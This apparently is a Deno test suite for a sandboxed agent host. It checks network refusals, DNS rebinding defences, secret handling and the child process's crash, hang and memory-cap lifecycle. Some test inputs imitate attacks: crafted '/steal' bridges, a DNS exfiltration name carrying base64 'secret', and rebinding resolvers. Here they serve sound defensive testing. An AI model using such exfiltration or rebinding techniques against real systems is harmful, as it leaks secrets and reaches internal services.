/**
 * AgentHost against real processes and loopback upstreams, bypassing the
 * gate: what the sandbox refuses on its own, and how the process lives,
 * crashes, hangs and dies.
 */

import assert from "node:assert/strict";
import { lookup } from "node:dns/promises";
import type { BridgeSpec } from "../../../config/mod.ts";
import { LoomError } from "../../../errors.ts";
import {
  byteSink,
  delay,
  makeBridge,
  startUpstream,
  type Upstream,
} from "../../../upstream/_testing.ts";
import { UpstreamStatusError } from "../../../upstream/mod.ts";
import { agentConfig, type TestBridge } from "../../../security/sandbox/_testing.ts";
import { denoFlagsFor } from "../../../security/sandbox/mod.ts";
import { AgentHost, agentHostCommand, type AgentHostOptions, type SandboxEvent } from "./mod.ts";

const FIXTURES = new URL("../../../../tests/fixtures/sandbox/", import.meta.url);

function callOptions(ms = 5000, secrets: Record<string, string> = {}) {
  return {
    signal: AbortSignal.timeout(ms),
    maxResponseBytes: 1024 * 1024,
    allowNetworks: [] as string[],
    secrets: new Map(Object.entries(secrets)),
  };
}

function hostFor(
  bridges: (string | TestBridge)[],
  options: AgentHostOptions & { maxExecutionTime?: string } = {},
): { host: AgentHost; events: SandboxEvent[]; bridges: readonly BridgeSpec[] } {
  const events: SandboxEvent[] = [];
  const config = agentConfig({ bridges, maxExecutionTime: options.maxExecutionTime });
  const host = new AgentHost(config, { ...options, onEvent: (e) => events.push(e) });
  return { host, events, bridges: config.bridges };
}

async function rejectsWith(
  promise: Promise<unknown>,
  code: string,
  message: RegExp,
): Promise<LoomError> {
  let caught: unknown;
  try {
    await promise;
  } catch (error) {
    caught = error;
  }
  assert.ok(caught instanceof LoomError, `expected a LoomError, got ${caught}`);
  assert.equal(caught.code, code, caught.message);
  assert.match(caught.message, message);
  return caught;
}

function inline(url: string): BridgeSpec {
  return makeBridge(url, { toolName: "crafted" });
}

/**
 * Wait until `ready()` holds: a state, not a fixed sleep that a loaded machine
 * can outlast. Bounded (10 s); fails naming what never happened.
 */
async function until(what: string, ready: () => boolean): Promise<void> {
  for (let i = 0; i < 400 && !ready(); i++) await delay(25);
  assert.ok(ready(), `${what} did not happen`);
}

/** An upstream that holds requests to `/slow`; see {@linkcode heldUpstream}. */
interface HeldUpstream extends Upstream {
  /** Requests to `/slow` whose client went away while they were held. */
  readonly abandoned: number;
}

/**
 * An upstream that holds each request to `/slow` until its client goes away
 * or the upstream is disposed, and answers any other path at once: a call to
 * `/slow` ends only by a deadline, a cancel or a crash, never by an answer.
 */
function heldUpstream(): HeldUpstream {
  const released = new AbortController();
  let abandoned = 0;
  const upstream = startUpstream(async (req) => {
    if (new URL(req.url).pathname === "/slow") {
      // Deno also aborts `req.signal` after a response (its legacy behaviour),
      // so the listeners come off before the answer: only a client that went
      // away while the request was held counts.
      await new Promise<void>((resolve) => {
        const gone = () => {
          abandoned++;
          done();
        };
        const done = () => {
          req.signal.removeEventListener("abort", gone);
          released.signal.removeEventListener("abort", done);
          resolve();
        };
        if (released.signal.aborted) return resolve();
        req.signal.addEventListener("abort", gone);
        released.signal.addEventListener("abort", done);
      });
    }
    return Response.json({ ok: true });
  });
  return {
    port: upstream.port,
    origin: upstream.origin,
    received: upstream.received,
    get abandoned() {
      return abandoned;
    },
    async [Symbol.asyncDispose]() {
      released.abort();
      await upstream[Symbol.asyncDispose]();
    },
  };
}

// --- the wall ---------------------------------------------------------------

Deno.test("AgentHost refuses a crafted bridge to an undeclared port with Deno's NotCapable", async () => {
  await using declared = startUpstream(() => Response.json({ ok: true }));
  await using undeclared = startUpstream(() => Response.json({ leaked: true }));
  const { host } = hostFor([`${declared.origin}/api`]);
  await using _ = host;
  // LOOM's own checks pass (the host is the literal IP the bridge names);
  // only the spawn-time --allow-net stops it.
  await rejectsWith(
    host.run(inline(`${undeclared.origin}/steal`), {}, callOptions()),
    "POLICY_DENIED",
    new RegExp(`Sandbox refused network access to "127\\.0\\.0\\.1:${undeclared.port}"`),
  );
  assert.equal(undeclared.received.length, 0);
});

Deno.test("AgentHost refuses the declared port under another name (name is not IP for Deno)", async () => {
  await using upstream = startUpstream(() => Response.json({ ok: true }));
  const { host } = hostFor([`${upstream.origin}/api`]);
  await using _ = host;
  await rejectsWith(
    host.run(inline(`http://localhost:${upstream.port}/api`), {}, callOptions()),
    "POLICY_DENIED",
    new RegExp(`"localhost:${upstream.port}"`),
  );
  assert.equal(upstream.received.length, 0);
});

Deno.test("AgentHost refuses a redirect from the declared upstream to an undeclared port", async () => {
  await using target = startUpstream(() => Response.json({ leaked: true }));
  await using upstream = startUpstream(() => Response.redirect(`${target.origin}/x`, 302));
  const { host, bridges } = hostFor([`${upstream.origin}/api`]);
  await using _ = host;
  await rejectsWith(
    host.run(bridges[0], {}, callOptions()),
    "POLICY_DENIED",
    /Redirect to another origin refused/,
  );
  assert.equal(upstream.received.length, 1);
  assert.equal(target.received.length, 0);
});

Deno.test("AgentHost refuses hosts that resolve to IPv6 ULA or link-local (LOOM's check in the child)", async () => {
  const asked: string[] = [];
  const { host, bridges } = hostFor(["http://ula.test:8080/api", "http://link.test:8080/api"], {
    lookup: (name) => {
      asked.push(name);
      return Promise.resolve(name === "ula.test" ? ["fd00::1"] : ["fe80::1"]);
    },
  });
  await using _ = host;
  await rejectsWith(
    host.run(bridges[0], {}, callOptions()),
    "POLICY_DENIED",
    /ula\.test" resolves to a private address \(fc00::\/7\)/,
  );
  await rejectsWith(
    host.run(bridges[1], {}, callOptions()),
    "POLICY_DENIED",
    /link\.test" resolves to a link-local address \(fe80::\/10\)/,
  );
  assert.deepEqual(asked, ["ula.test", "link.test"]);
});

Deno.test("AgentHost resolves only hosts of bridges it sent (no DNS channel for the child)", async () => {
  const asked: string[] = [];
  const { host, bridges } = hostFor(["https://api.example.com/x"], {
    entry: new URL("lookup_host.ts", FIXTURES),
    lookup: (name) => (asked.push(name), Promise.resolve(["93.184.216.34"])),
  });
  await using _ = host;
  const exfil = await host.run(bridges[0], { host: "c2VjcmV0.exfil.example" }, callOptions());
  assert.equal(exfil.text, "null");
  const declared = await host.run(bridges[0], { host: "api.example.com" }, callOptions());
  assert.equal(declared.text, '["93.184.216.34"]');
  assert.deepEqual(asked, ["api.example.com"]);
});

/** A name other than `localhost` that the system resolves to loopback, if any. */
async function loopbackAlias(): Promise<string | null> {
  try {
    const name = Deno.hostname();
    if (name === "localhost") return null;
    const found = await lookup(name, { all: true });
    return found.length > 0 && found.every((a) => a.address.startsWith("127.")) ? name : null;
  } catch {
    return null;
  }
}

const ALIAS = await loopbackAlias();

Deno.test({
  name: "AgentHost blocks DNS rebinding: a name checked as public but connecting to 127.0.0.1",
  ignore: ALIAS === null,
  async fn() {
    await using upstream = startUpstream(() => Response.json({ leaked: true }));
    // LOOM's check sees a public address (the rebinding resolver's first
    // answer); Deno resolves the name again at connect time, gets 127.0.0.1,
    // and its --deny-net CIDR list refuses it after resolution (NET-5).
    const { host, bridges } = hostFor([`http://${ALIAS}:${upstream.port}/api`], {
      lookup: () => Promise.resolve(["93.184.216.34"]),
    });
    await using _ = host;
    await rejectsWith(
      host.run(bridges[0], {}, callOptions()),
      "POLICY_DENIED",
      new RegExp(`Sandbox refused network access to "127\\.0\\.0\\.1:${upstream.port}"`),
    );
    assert.equal(upstream.received.length, 0);
  },
});

for (const mode of ["process", "worker"] as const) {
  Deno.test(`AgentHost (${mode} mode) refuses a name rebound to loopback between the check and the connection, before sending a byte`, async () => {
    // The config names `localhost`, so neither Deno's wall nor LOOM's policy
    // refuses loopback as such. The check's resolver (the rebinding DNS
    // server's first answer) said 93.184.216.34, never contacted: the sandbox
    // may only dial the name, which now leads to 127.0.0.1, an address the
    // check never approved.
    await using sink = byteSink("127.0.0.1");
    const { host, bridges } = hostFor([`http://localhost:${sink.port}/api`], {
      mode,
      lookup: () => Promise.resolve(["93.184.216.34"]),
    });
    await using _ = host;
    await rejectsWith(
      host.run(bridges[0], {}, callOptions()),
      "POLICY_DENIED",
      /^Destination "localhost" connected to an address that was not checked$/,
    );
    assert.equal(sink.bytes, 0);
  });
}

Deno.test("AgentHost refuses a name whose check answer is IPv4-mapped loopback", async () => {
  await using sink = byteSink("127.0.0.1");
  const { host, bridges } = hostFor([`http://mapped.test:${sink.port}/api`], {
    lookup: () => Promise.resolve(["::ffff:127.0.0.1"]),
  });
  await using _ = host;
  await rejectsWith(
    host.run(bridges[0], {}, callOptions()),
    "POLICY_DENIED",
    /^Destination "mapped\.test" resolves to a loopback address \(127\.0\.0\.0\/8\)$/,
  );
  assert.equal(sink.bytes, 0);
});

// --- calls ------------------------------------------------------------------

Deno.test("AgentHost serves many calls, sequential and concurrent, over one process", async () => {
  await using upstream = startUpstream(async (req) => {
    const id = new URL(req.url).pathname.split("/").at(-1);
    await delay(Number(id) % 7);
    return Response.json({ data: { id } });
  });
  const { host, bridges, events } = hostFor([
    { url: `${upstream.origin}/items/{{id}}`, responsePath: "data.id" },
  ]);
  await using _ = host;
  for (let i = 0; i < 30; i++) {
    const result = await host.run(bridges[0], { id: String(i) }, callOptions());
    assert.equal(result.structured, String(i));
  }
  const results = await Promise.all(
    Array.from({ length: 40 }, (_, i) => host.run(bridges[0], { id: `${100 + i}` }, callOptions())),
  );
  results.forEach((r, i) => assert.equal(r.structured, `${100 + i}`));
  assert.equal(host.spawnCount, 1);
  assert.deepEqual(events.map((e) => e.action), ["spawn", "ready"]);
});

Deno.test("AgentHost keeps the child's upstream connections alive between calls", async () => {
  const connections = new Set<number>();
  await using server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (_, info) => {
    connections.add(info.remoteAddr.port);
    return Response.json({ ok: true });
  });
  const { host, bridges } = hostFor([`http://127.0.0.1:${server.addr.port}/items`]);
  await using _ = host;
  for (let i = 0; i < 3; i++) await host.run(bridges[0], {}, callOptions());
  assert.equal(connections.size, 1);
});

Deno.test("AgentHost: the child ends a call at max_execution_time as UPSTREAM_TIMEOUT", async () => {
  await using upstream = heldUpstream();
  // The parent waits 5 s past the deadline, so the answer is the child's own.
  const { host, bridges } = hostFor([`${upstream.origin}/slow`], {
    maxExecutionTime: "300ms",
    graceMs: 5000,
  });
  await using _ = host;
  await rejectsWith(
    host.run(bridges[0], {}, callOptions(20_000)),
    "UPSTREAM_TIMEOUT",
    /^Upstream did not answer within the call deadline$/,
  );
  await until("the child dropping its upstream request", () => upstream.abandoned === 1);
  assert.notEqual(host.pid, null);
});

Deno.test("AgentHost gives the child granted secrets only, at the last moment", async () => {
  await using upstream = startUpstream((req) =>
    Response.json({ key: req.headers.get("x-api-key") })
  );
  const { host, bridges } = hostFor([
    { url: `${upstream.origin}/api`, headers: { "X-Api-Key": "{{secret:api_key}}" } },
  ]);
  await using _ = host;
  await rejectsWith(
    host.run(bridges[0], {}, callOptions()),
    "POLICY_DENIED",
    /Secret "api_key" is not available/,
  );
  assert.equal(upstream.received.length, 0);
  const result = await host.run(bridges[0], {}, callOptions(5000, { api_key: "s3cret-value" }));
  assert.deepEqual(result.secretNames, ["api_key"]);
  assert.equal(upstream.received[0].headers.get("x-api-key"), "s3cret-value");
});

Deno.test("AgentHost returns upstream errors as the same LOOM errors as in process", async () => {
  await using upstream = startUpstream(() => new Response("nope", { status: 404 }));
  const { host, bridges } = hostFor([`${upstream.origin}/missing`]);
  await using _ = host;
  const error = await rejectsWith(
    host.run(bridges[0], {}, callOptions()),
    "UPSTREAM_FAILED",
    /Upstream answered 404 Not Found/,
  );
  assert.ok(error instanceof UpstreamStatusError);
  assert.equal(error.status, 404);
});

Deno.test("AgentHost ends a cancelled call and tells the child, which drops its upstream request", async () => {
  await using upstream = heldUpstream();
  // Deadlines a minute away: only the cancel can make the child let go.
  const { host, bridges } = hostFor([`${upstream.origin}/slow`], { maxExecutionTime: "60s" });
  await using _ = host;
  const controller = new AbortController();
  const pending = host.run(bridges[0], {}, { ...callOptions(60_000), signal: controller.signal });
  await until("the upstream receiving the call", () => upstream.received.length === 1);
  controller.abort();
  await rejectsWith(pending, "UPSTREAM_FAILED", /cancelled/);
  await until("the child dropping its upstream request", () => upstream.abandoned === 1);
  assert.equal(host.spawnCount, 1);
});

Deno.test("AgentHost ends a cancelled call without waiting for a host that never answers", async () => {
  const { host, bridges, events } = hostFor(["http://127.0.0.1:9/api"], {
    entry: new URL("loop_host.ts", FIXTURES),
    maxExecutionTime: "60s",
  });
  await using _ = host;
  const controller = new AbortController();
  const pending = host.run(bridges[0], {}, { ...callOptions(60_000), signal: controller.signal });
  await until("the host starting", () => events.some((e) => e.action === "ready"));
  controller.abort();
  // The host spins once it has the call and the deadlines are a minute away:
  // only the parent's own handling of the cancel can end the call.
  await rejectsWith(pending, "UPSTREAM_FAILED", /^Upstream call was cancelled$/);
  assert.deepEqual(events.map((e) => e.action), ["spawn", "ready"]);
  // The spinning host ignores the stop request; end it rather than wait for that.
  Deno.kill(host.pid!, "SIGKILL");
});

// --- lifecycle --------------------------------------------------------------

Deno.test("AgentHost gives the child no environment but NO_COLOR (and DENO_DIR)", async () => {
  await using upstream = startUpstream(() => Response.json({}));
  const { host, bridges } = hostFor([`${upstream.origin}/api`]);
  await using _ = host;
  await host.run(bridges[0], {}, callOptions());
  const environ = await Deno.readTextFile(`/proc/${host.pid}/environ`);
  const names = environ.split("\0").filter(Boolean).map((kv) => kv.slice(0, kv.indexOf("=")));
  const expected = Deno.env.get("DENO_DIR") ? ["DENO_DIR", "NO_COLOR"] : ["NO_COLOR"];
  assert.deepEqual(names.sort(), expected);
  const cmdline = (await Deno.readTextFile(`/proc/${host.pid}/cmdline`)).split("\0");
  for (const flag of denoFlagsFor(host.config)) assert.ok(cmdline.includes(flag), flag);
});

Deno.test("agentHostCommand() derives the child's argv from the config alone", () => {
  const config = agentConfig({ bridges: ["https://api.example.com/x"] });
  const process = agentHostCommand(config, { mode: "process", denoDir: null });
  assert.equal(process.command, Deno.execPath());
  assert.deepEqual(process.args.slice(0, -1), ["run", ...denoFlagsFor(config)]);
  assert.match(process.args.at(-1)!, /agent_main\.ts$/);
  assert.deepEqual(process.env, { NO_COLOR: "1" });
  assert.equal(process.cwd, "/");
  const compiled = agentHostCommand(config, { mode: "compiled", memoryMb: 64, denoDir: "/c" });
  assert.deepEqual(compiled.args, ["__agent-host", "--allow-net=api.example.com:443"]);
  assert.deepEqual(compiled.env, {
    NO_COLOR: "1",
    DENO_DIR: "/c",
    DENO_V8_FLAGS: "--max-old-space-size=64",
  });
});

Deno.test("AgentHost restarts a crashed host on the next call while another host keeps serving", async () => {
  await using upstream = heldUpstream();
  const one = hostFor([`${upstream.origin}/slow`, `${upstream.origin}/fast`]);
  const two = hostFor([`${upstream.origin}/fast`]);
  await using _one = one.host;
  await using _two = two.host;
  await one.host.run(one.bridges[1], {}, callOptions());
  await two.host.run(two.bridges[0], {}, callOptions());
  const inFlight = one.host.run(one.bridges[0], {}, callOptions());
  await until(
    "the upstream receiving the slow call",
    () => upstream.received.some((r) => r.url.pathname === "/slow"),
  );
  Deno.kill(one.host.pid!, "SIGKILL");
  await rejectsWith(inFlight, "UNAVAILABLE", /^Agent host exited$/);
  // The other agent is untouched.
  assert.equal((await two.host.run(two.bridges[0], {}, callOptions())).status, 200);
  assert.equal(two.host.spawnCount, 1);
  // The crashed one comes back on the next call, after its backoff.
  assert.equal((await one.host.run(one.bridges[1], {}, callOptions())).status, 200);
  assert.equal(one.host.spawnCount, 2);
  assert.deepEqual(one.events.map((e) => e.action), [
    "spawn",
    "ready",
    "crash",
    "restart",
    "spawn",
    "ready",
  ]);
  assert.equal(one.events[2].detail, "signal SIGKILL");
});

Deno.test("AgentHost backs off exponentially between restarts, up to its maximum", async () => {
  await using upstream = startUpstream(() => Response.json({}));
  const { host, bridges, events } = hostFor([`${upstream.origin}/api`], {
    backoff: { initialMs: 50, maxMs: 150 },
  });
  await using _ = host;
  for (let i = 0; i < 4; i++) {
    await host.run(bridges[0], {}, callOptions());
    const pid = host.pid!;
    Deno.kill(pid, "SIGKILL");
    await until("the crash being seen", () => host.pid !== pid);
  }
  await host.run(bridges[0], {}, callOptions());
  assert.deepEqual(
    events.filter((e) => e.action === "restart").map((e) => e.detail),
    ["after 50ms backoff", "after 100ms backoff", "after 150ms backoff", "after 150ms backoff"],
  );
  assert.equal(host.spawnCount, 5);
});

Deno.test("AgentHost kills a host that loops forever and the parent stays responsive", async () => {
  await using health = startUpstream(() => new Response("ok"));
  const { host, bridges, events } = hostFor(["http://127.0.0.1:9/api"], {
    entry: new URL("loop_host.ts", FIXTURES),
    maxExecutionTime: "500ms",
    graceMs: 300,
  });
  await using _ = host;
  const call = host.run(bridges[0], {}, callOptions(500));
  // While the host spins, the parent serves a local HTTP probe, and its own
  // deadline timer ends the call (the host cannot answer).
  const probe = fetch(`${health.origin}/healthz`).then((res) => res.text());
  await rejectsWith(call, "UPSTREAM_TIMEOUT", /^Call exceeded max_execution_time of 500ms$/);
  assert.equal(await probe, "ok");
  // The spinning process does not answer the ping and is killed.
  await until("the kill", () => events.some((e) => e.action === "kill"));
  assert.deepEqual(events.map((e) => e.action), ["spawn", "ready", "kill"]);
  assert.equal(events[2].detail, "timeout");
  assert.equal(host.pid, null);
});

Deno.test("AgentHost reports a host killed by its memory cap and fails the call cleanly", async () => {
  const logs: string[] = [];
  const { host, bridges, events } = hostFor(["http://127.0.0.1:9/api"], {
    entry: new URL("allocate_host.ts", FIXTURES),
    memoryMb: 32,
    onLog: (line) => logs.push(line),
  });
  await using _ = host;
  await rejectsWith(
    host.run(bridges[0], {}, callOptions(20_000)),
    "UNAVAILABLE",
    /Agent host exited: memory cap of 32 MiB reached/,
  );
  assert.deepEqual(
    events.filter((e) => e.action === "kill").map((e) => e.detail),
    ["memory"],
  );
  assert.ok(logs.some((line) => /out of memory/i.test(line)));
});

Deno.test("AgentHost stops an idle host and starts it again on demand", async () => {
  await using upstream = startUpstream(() => Response.json({}));
  const { host, bridges, events } = hostFor([`${upstream.origin}/api`], { idleMs: 200 });
  await using _ = host;
  await host.run(bridges[0], {}, callOptions());
  const firstPid = host.pid;
  await until("the idle stop", () => host.pid === null);
  await host.run(bridges[0], {}, callOptions());
  assert.notEqual(host.pid, firstPid);
  assert.deepEqual(events.map((e) => e.action + (e.action === "stop" ? `:${e.detail}` : "")), [
    "spawn",
    "ready",
    "stop:idle",
    "spawn",
    "ready",
  ]);
});

Deno.test("AgentHost.close() stops the host, waits for it, and refuses later calls", async () => {
  await using upstream = startUpstream(() => Response.json({}));
  const { host, bridges, events } = hostFor([`${upstream.origin}/api`]);
  await host.run(bridges[0], {}, callOptions());
  const pid = host.pid!;
  await host.close();
  assert.equal(host.pid, null);
  assert.throws(() => Deno.kill(pid, "SIGCONT"), Deno.errors.NotFound);
  await rejectsWith(host.run(bridges[0], {}, callOptions()), "UNAVAILABLE", /closed/);
  assert.deepEqual(events.at(-1)?.detail, "shutdown");
});

Deno.test("AgentHost fails cleanly when its entry cannot start", async () => {
  const logs: string[] = [];
  const { host, bridges, events } = hostFor(["http://127.0.0.1:9/api"], {
    entry: new URL("does_not_exist.ts", FIXTURES),
    onLog: (line) => logs.push(line),
  });
  await using _ = host;
  await rejectsWith(host.run(bridges[0], {}, callOptions()), "UNAVAILABLE", /Agent host exited/);
  assert.equal(events.at(-1)?.action, "crash");
  assert.ok(logs.some((line) => /not found|No such file/i.test(line)));
});

// --- compiled-binary path, run from source --------------------------------------

Deno.test("AgentHost in worker mode serves calls and shows the same NotCapable refusals", async () => {
  await using declared = startUpstream(() => Response.json({ data: "hi" }));
  await using undeclared = startUpstream(() => Response.json({ leaked: true }));
  const { host, bridges, events } = hostFor([
    { url: `${declared.origin}/api`, responsePath: "data" },
  ], { mode: "worker" });
  await using _ = host;
  assert.equal((await host.run(bridges[0], {}, callOptions())).structured, "hi");
  await rejectsWith(
    host.run(inline(`${undeclared.origin}/steal`), {}, callOptions()),
    "POLICY_DENIED",
    new RegExp(`Sandbox refused network access to "127\\.0\\.0\\.1:${undeclared.port}"`),
  );
  await rejectsWith(
    host.run(inline(`http://localhost:${declared.port}/api`), {}, callOptions()),
    "POLICY_DENIED",
    new RegExp(`"localhost:${declared.port}"`),
  );
  assert.equal(undeclared.received.length, 0);
  assert.equal(declared.received.length, 1);
  assert.equal(events[0].detail, "worker");
});

Deno.test("AgentHost in worker mode: the Worker's explicit permissions refuse everything but its origins", async () => {
  await using undeclared = startUpstream(() => Response.json({ leaked: true }));
  const { host, bridges } = hostFor(["https://api.example.com/x"], {
    mode: "worker",
    entry: new URL("worker_probe.ts", FIXTURES),
  });
  await using _ = host;
  const result = await host.run(
    bridges[0],
    { url: `${undeclared.origin}/steal`, module: "https://esm.sh/x" },
    callOptions(),
  );
  assert.deepEqual(JSON.parse(result.text), {
    env: "NotCapable",
    read: "NotCapable",
    write: "NotCapable",
    run: "NotCapable",
    ffi: "NotCapable",
    sys: "NotCapable",
    listen: "NotCapable",
    fetch: "NotCapable",
    import:
      'TypeError: Requires import access to "esm.sh:443", run again with the --allow-import flag',
  });
  assert.equal(undeclared.received.length, 0);
});

Deno.test("AgentHost kills a host that never becomes ready", async () => {
  const { host, bridges, events } = hostFor(["http://127.0.0.1:9/api"], {
    entry: new URL("silent_host.ts", FIXTURES),
    startTimeoutMs: 300,
  });
  await using _ = host;
  await rejectsWith(host.run(bridges[0], {}, callOptions()), "UNAVAILABLE", /did not start/);
  assert.deepEqual(events.map((e) => `${e.action}:${e.detail}`), ["spawn:process", "kill:startup"]);
});

Deno.test("AgentHost kills a host that breaks the protocol and refuses its forged answer", async () => {
  const { host, bridges, events } = hostFor(["http://127.0.0.1:9/api"], {
    entry: new URL("garbage_host.ts", FIXTURES),
  });
  await using _ = host;
  await rejectsWith(
    host.run(bridges[0], {}, callOptions()),
    "UNAVAILABLE",
    /broke the protocol and was killed/,
  );
  assert.deepEqual(events.map((e) => e.action), ["spawn", "ready", "kill"]);
  assert.equal(events[2].detail, "protocol");
});
